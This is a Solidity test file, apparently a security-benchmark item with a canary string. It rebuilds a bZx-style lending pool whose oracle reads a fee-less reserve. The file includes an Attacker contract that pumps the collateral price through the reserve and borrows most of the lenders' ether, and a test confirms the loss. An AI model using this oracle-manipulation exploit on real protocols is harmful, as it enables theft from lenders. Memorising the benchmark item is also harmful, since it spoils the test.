pragma solidity 0.5.17;

import "./IToken.sol";

// assay-canary-b2f5923c-3bb2-45e6-838f-2914fe610379

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten(bool on) external {
        require(msg.sender == minter, "minter only");
        silent = on;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Weth is Token {}

/// An exchange along a constant product, without a fee.
contract Reserve {
    Token public susd;
    Weth public weth;

    constructor(Token susd_, Weth weth_) public {
        susd = susd_;
        weth = weth_;
    }

    function getExpectedRate(address src, address dst) external view returns (uint256) {
        return Token(dst).balanceOf(address(this)) * 1e18 / Token(src).balanceOf(address(this));
    }

    function buySusd(uint256 amount) external {
        uint256 out = susd.balanceOf(address(this)) * amount / (weth.balanceOf(address(this)) + amount);
        require(weth.transferFrom(msg.sender, address(this), amount) && susd.transfer(msg.sender, out), "trade");
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ANA = address(0xA9A);
    address constant BEN = address(0xBE9);
    address constant LIQ = address(0x119);

    Token internal susd;
    Weth internal weth;
    Reserve internal reserve;
    BZxOracle internal oracle;
    IToken internal iEth;
    Attacker internal thief;

    function setUp() public {
        susd = new Token();
        weth = new Weth();
        reserve = new Reserve(susd, weth);
        susd.mint(address(reserve), 250000e18);
        weth.mint(address(reserve), 1000e18);
        oracle = new BZxOracle(SwapsInterface(address(reserve)));
        oracle.setReference(address(susd), address(weth), 4e15);
        iEth = new IToken(oracle, EIP20Interface(address(weth)), EIP20Interface(address(susd)));
        weth.mint(ANA, 7000e18);
        vm.startPrank(ANA);
        weth.approve(address(iEth), uint256(-1));
        iEth.mint(7000e18);
        vm.stopPrank();
        susd.mint(BEN, 50000e18);
        vm.prank(BEN);
        susd.approve(address(iEth), uint256(-1));
        weth.mint(LIQ, 500e18);
        vm.prank(LIQ);
        weth.approve(address(iEth), uint256(-1));
        thief = new Attacker(iEth, reserve, susd, weth);
        susd.mint(address(thief), 1100000e18);
        weth.mint(address(thief), 1000e18);
    }

    function test_Regular() public {
        require(oracle.queryRate(address(susd), address(weth)) == 4e15, "one price");
        vm.startPrank(BEN);
        iEth.borrowTokenFromDeposit(20000e18, 50e18);
        require(weth.balanceOf(BEN) == 50e18, "lent");
        weth.approve(address(iEth), uint256(-1));
        iEth.repayBorrow(20e18);
        iEth.repayBorrow(30e18);
        require(susd.balanceOf(BEN) == 50000e18 && iEth.principalOf(BEN) == 0, "closed");
        iEth.borrowTokenFromDeposit(50000e18, 132e18);
        vm.stopPrank();
        oracle.setReference(address(susd), address(weth), 3e15);
        vm.prank(LIQ);
        iEth.liquidate(BEN);
        require(susd.balanceOf(LIQ) == 50000e18 && weth.balanceOf(LIQ) == 368e18 && iEth.collateralOf(BEN) == 0, "taken over");
        vm.prank(ANA);
        iEth.burn(6000e18);
        require(weth.balanceOf(ANA) == 6000e18 && iEth.balanceOf(ANA) == 1000e18, "back");
    }

    function test_RefusesPrices() public {
        vm.prank(ANA);
        vm.expectRevert("only the admin can report a price");
        oracle.setReference(address(susd), address(weth), 1);
        vm.expectRevert("a price cannot be zero");
        oracle.setReference(address(susd), address(weth), 0);
        vm.startPrank(BEN);
        iEth.borrowTokenFromDeposit(0, 0);
        iEth.borrowTokenFromDeposit(20000e18, 0);
        vm.stopPrank();
        oracle.setReference(address(susd), address(weth), uint256(-1));
        vm.expectRevert("multiplication overflow");
        iEth.liquidate(BEN);
    }

    function test_RefusesBeyondLimits() public {
        vm.startPrank(BEN);
        vm.expectRevert("the collateral is not enough");
        iEth.borrowTokenFromDeposit(50000e18, 132e18 + 1);
        iEth.borrowTokenFromDeposit(50000e18, 132e18);
        vm.expectRevert("more than is owed");
        iEth.repayBorrow(132e18 + 1);
        vm.expectRevert("more than was lent");
        iEth.burn(1);
        vm.stopPrank();
        vm.prank(LIQ);
        vm.expectRevert("the collateral is enough");
        iEth.liquidate(BEN);
    }

    function test_RefusesWhatDoesNotMove() public {
        weth.quieten(true);
        vm.startPrank(ANA);
        vm.expectRevert("the loan token did not come in");
        iEth.mint(1);
        vm.expectRevert("the loan token did not go out");
        iEth.burn(1);
        vm.expectRevert("the loan token did not come in");
        iEth.repayBorrow(0);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("the loan token did not go out");
        iEth.borrowTokenFromDeposit(1e18, 0);
        weth.quieten(false);
        vm.prank(BEN);
        iEth.borrowTokenFromDeposit(1e18, 1e15);
        oracle.setReference(address(susd), address(weth), 1);
        weth.quieten(true);
        vm.prank(LIQ);
        vm.expectRevert("the loan token did not come in");
        iEth.liquidate(BEN);
        weth.quieten(false);
        susd.quieten(true);
        vm.prank(LIQ);
        vm.expectRevert("the collateral did not go out");
        iEth.liquidate(BEN);
        vm.startPrank(BEN);
        vm.expectRevert("the collateral did not come in");
        iEth.borrowTokenFromDeposit(0, 0);
        weth.approve(address(iEth), 1e15);
        vm.expectRevert("the collateral did not go out");
        iEth.repayBorrow(1e15);
        vm.stopPrank();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = lendersCanGet();
        exploit();
        require(lendersCanGet() + 2388e18 <= before, "nothing lost");
    }

    /// Ether that is there, and collateral at the price of the market at large.
    function lendersCanGet() public view returns (uint256) {
        return weth.balanceOf(address(iEth)) + susd.balanceOf(address(iEth)) / 250;
    }

    function target() public view returns (address) {
        return address(iEth);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Makes its collateral dear, and borrows.
contract Attacker {
    IToken internal iEth;
    Reserve internal reserve;
    Token internal susd;
    Weth internal weth;

    constructor(IToken iEth_, Reserve reserve_, Token susd_, Weth weth_) public {
        iEth = iEth_;
        reserve = reserve_;
        susd = susd_;
        weth = weth_;
    }

    function run() external {
        weth.approve(address(reserve), uint256(-1));
        susd.approve(address(iEth), uint256(-1));
        reserve.buySusd(1000e18);
        iEth.borrowTokenFromDeposit(1100000e18, 7000e18);
    }
}
